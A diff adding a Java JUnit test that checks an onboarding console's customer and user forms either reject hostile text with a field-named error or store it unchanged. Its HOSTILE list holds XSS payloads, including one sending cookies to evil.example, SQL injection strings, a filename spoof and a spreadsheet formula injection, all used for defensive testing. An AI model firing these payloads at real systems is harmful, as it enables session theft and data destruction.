@@ -1,0 +1,163 @@
+package com.onboarding.console;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.catchThrowable;
+
+import com.onboarding.console.base.domain.InvalidInputException;
+import com.onboarding.console.customers.domain.Customer;
+import com.onboarding.console.customers.service.CustomerDraft;
+import com.onboarding.console.customers.service.CustomerFilter;
+import com.onboarding.console.customers.service.CustomerService;
+import com.onboarding.console.security.service.UserAdminService;
+import com.onboarding.console.security.service.UserDraft;
+import com.onboarding.console.security.domain.Role;
+import java.util.List;
+import java.util.UUID;
+import java.util.concurrent.ThreadLocalRandom;
+import java.util.function.BiFunction;
+import java.util.function.Function;
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.Test;
+import org.springframework.beans.factory.annotation.Autowired;
+
+/**
+ * Every text field of the customer and user forms with what an attacker or a careless paste would type: each
+ * is either refused with a message that names the field, leaving nothing saved or changed, or kept exactly.
+ */
+class HostileInputTest extends ConsoleTest {
+
+    static final List<String> HOSTILE = List.of(
+            "<img src=x onerror=alert(1)>",
+            "<script>document.location='http://evil.example/'+document.cookie</script>",
+            "x".repeat(10_000),
+            "Robert'); DROP TABLE customer;--",
+            "' OR '1'='1",
+            "50%_\\",
+            "bell\u0007ring",
+            "two\nlines",
+            "tab\tbed",
+            "evil\u202Etxt.exe",
+            "zero\u200Bwidth",
+            "Ünïcödé 名前 \uD83D\uDE00\uD83C\uDDE9\uD83C\uDDEA",
+            "=HYPERLINK(\"http://evil.example\")");
+
+    private record Field(String label, BiFunction<CustomerDraft, String, CustomerDraft> with,
+            Function<Customer, @Nullable String> read) {
+    }
+
+    private static final List<Field> CUSTOMER_FIELDS = List.of(
+            new Field("Name", (d, v) -> new CustomerDraft(v, d.accountId(), d.csmUserId(), d.billingCountry(),
+                    d.rootEmail(), d.payerAccountId(), d.notes()), Customer::getName),
+            new Field("Management account id", (d, v) -> new CustomerDraft(d.name(), v, d.csmUserId(),
+                    d.billingCountry(), d.rootEmail(), d.payerAccountId(), d.notes()), Customer::getAccountId),
+            new Field("Billing country", (d, v) -> new CustomerDraft(d.name(), d.accountId(), d.csmUserId(), v,
+                    d.rootEmail(), d.payerAccountId(), d.notes()), Customer::getBillingCountry),
+            new Field("Root email", (d, v) -> new CustomerDraft(d.name(), d.accountId(), d.csmUserId(),
+                    d.billingCountry(), v, d.payerAccountId(), d.notes()), Customer::getRootEmail),
+            new Field("Payer account id", (d, v) -> new CustomerDraft(d.name(), d.accountId(), d.csmUserId(),
+                    d.billingCountry(), d.rootEmail(), v, d.notes()), Customer::getPayerAccountId),
+            new Field("Notes", (d, v) -> new CustomerDraft(d.name(), d.accountId(), d.csmUserId(),
+                    d.billingCountry(), d.rootEmail(), d.payerAccountId(), v), Customer::getNotes));
+
+    @Autowired
+    private CustomerService customers;
+
+    @Autowired
+    private UserAdminService userAdmin;
+
+    @Test
+    void newCustomersTakeHostileTextExactlyOrRefuseItWithNothingSaved() {
+        runAs("ops");
+        for (var field : CUSTOMER_FIELDS) {
+            for (var hostile : HOSTILE) {
+                var draft = field.with().apply(validDraft(), hostile);
+                var countBefore = customers.count(everyone());
+                var refusal = catchThrowable(() -> {
+                    var created = customers.create(draft);
+                    assertThat(field.read().apply(customers.get(created.id())))
+                            .as("%s kept as typed", field.label()).isEqualTo(hostile.strip());
+                });
+                if (refusal != null) {
+                    assertRefused(refusal, field.label(), hostile);
+                    assertThat(customers.count(everyone())).as("nothing saved").isEqualTo(countBefore);
+                }
+            }
+        }
+    }
+
+    @Test
+    void editsTakeHostileTextExactlyOrRefuseItWithNothingChanged() {
+        runAs("ops");
+        var customer = customers.create(validDraft());
+        for (var field : CUSTOMER_FIELDS) {
+            for (var hostile : HOSTILE) {
+                var before = customers.get(customer.id());
+                var draft = field.with().apply(draftOf(before), hostile);
+                var refusal = catchThrowable(() -> customers.update(before.id(), before.getVersion(), draft));
+                var after = customers.get(customer.id());
+                if (refusal == null) {
+                    assertThat(field.read().apply(after)).as("%s kept as typed", field.label())
+                            .isEqualTo(hostile.strip());
+                } else {
+                    assertRefused(refusal, field.label(), hostile);
+                    assertThat(after.getVersion()).as("nothing changed").isEqualTo(before.getVersion());
+                    assertThat(draftOf(after)).isEqualTo(draftOf(before));
+                }
+            }
+        }
+    }
+
+    @Test
+    void newUsersTakeHostileTextExactlyOrRefuseItWithNothingSaved() {
+        runAs("admin");
+        for (var hostile : HOSTILE) {
+            checkUser("Username", hostile, new UserDraft(hostile, "Hostile Test", null, Role.OPS, null));
+            checkUser("Display name", hostile, new UserDraft(uniqueUsername(), hostile, null, Role.OPS, null));
+            checkUser("Email", hostile, new UserDraft(uniqueUsername(), "Hostile Test", hostile, Role.OPS, null));
+        }
+    }
+
+    private void checkUser(String label, String hostile, UserDraft draft) {
+        var countBefore = userAdmin.list().size();
+        var refusal = catchThrowable(() -> {
+            var id = userAdmin.create(draft, "a long enough password 1");
+            var saved = userAdmin.list().stream().filter(u -> u.id() == id).findFirst().orElseThrow();
+            var kept = switch (label) {
+                case "Username" -> saved.username();
+                case "Display name" -> saved.displayName();
+                default -> saved.email();
+            };
+            assertThat(kept).as("%s kept as typed", label).isEqualTo(hostile.strip());
+        });
+        if (refusal != null) {
+            assertRefused(refusal, label, hostile);
+            assertThat(userAdmin.list()).as("nothing saved").hasSize(countBefore);
+        }
+    }
+
+    private static void assertRefused(Throwable refusal, String label, String hostile) {
+        assertThat(refusal).as("%s with %s", label, hostile.length() > 40 ? hostile.substring(0, 40) : hostile)
+                .isInstanceOf(InvalidInputException.class);
+        var invalid = (InvalidInputException) refusal;
+        assertThat(invalid.field()).isEqualTo(label);
+        assertThat(invalid.getMessage()).isNotBlank().doesNotContain("Exception").hasSizeLessThan(400);
+    }
+
+    private static CustomerDraft validDraft() {
+        var account = String.valueOf(ThreadLocalRandom.current().nextLong(100_000_000_000L, 999_999_999_999L));
+        return new CustomerDraft("Hostile " + UUID.randomUUID(), account, null, "DE", null, null, null);
+    }
+
+    private static CustomerDraft draftOf(Customer c) {
+        return new CustomerDraft(c.getName(), c.getAccountId(), c.getCsmUserId(), c.getBillingCountry(),
+                c.getRootEmail(), c.getPayerAccountId(), c.getNotes());
+    }
+
+    private static String uniqueUsername() {
+        return "hostile-" + UUID.randomUUID().toString().substring(0, 8);
+    }
+
+    private static CustomerFilter everyone() {
+        return CustomerFilter.ACTIVE;
+    }
+}
